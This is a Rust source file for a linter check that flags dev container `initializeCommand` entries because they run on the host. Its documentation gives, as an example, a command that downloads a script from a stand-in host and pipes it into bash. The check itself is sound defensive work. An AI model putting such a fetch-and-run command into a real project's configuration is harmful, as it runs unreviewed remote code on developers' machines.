//! `devcontainer-host-command`: a dev container command that runs on the host.

use crate::engine::repository::Repository;
use crate::engine::{Check, Reads, Reports, Run};
use crate::model::{Confidence, Family, Meta, Preset, Severity};
use crate::parse::agent::Kind;
use crate::parse::remote::{self, Act};
use crate::parse::yaml::Value;

/// The check.
pub(crate) static CHECK: Check = Check {
    meta: Meta {
        id: "devcontainer-host-command",
        title: "dev container command that runs on the host",
        severity: Severity::Low,
        confidence: Confidence::High,
        family: Family::Agent,
        remedy: "run it inside the container, with `onCreateCommand` or `postCreateCommand`",
        docs: r#"
## What it does
Reports `initializeCommand` of dev containers, which runs on the machine of the person who opens the folder, not in the
container: `high` if it runs what it fetches or decodes, saves what it fetches, starts a hidden file, or sends secrets
away, otherwise `low`.

## Why is this bad
A dev container isolates the repository's code from the machine. This command bypasses that isolation.

## Example
```json
{"initializeCommand": "bash -c \"$(wget -qO- https://get.northwind-tools.example/dev)\""}
```

## Use instead
```json
{"postCreateCommand": "cargo fetch --locked"}
```

## References
- <https://containers.dev/implementors/json_reference/#lifecycle-scripts>
"#,
    },
    run: Run::Repository { preset: Preset::Default, reads: Reads::Settings, whole: false, run },
};

fn run(repository: &Repository, reports: &mut Reports<'_>) {
    for file in repository.settings.files.iter().filter(|file| file.kind == Kind::Container) {
        let Some(command) = file.document.root().get("initializeCommand") else { continue };
        // Several named commands, or one.
        let named = command.entries().map(|(_, value)| value);
        let act = named.chain([command]).filter_map(act).max_by_key(|act| act.what);
        let is_empty = command.is_nothing() || command.text() == Some("");
        let (severity, how) = match act.filter(Act::is_grave) {
            Some(act) => (Severity::High, format!(", and {}", act.phrase())),
            None if is_empty => continue,
            None => (Severity::Low, String::new()),
        };
        let message = format!("`initializeCommand` runs on the host, not in the container{how}");
        reports.span(&file.path, command.span(), message).severity(severity);
    }
}

/// What a command does: shell text, or a program with its arguments.
fn act(command: Value<'_>) -> Option<Act> {
    if let Some(text) = command.text() {
        return remote::act(text);
    }
    remote::act_of(command.items().filter_map(Value::text))
}
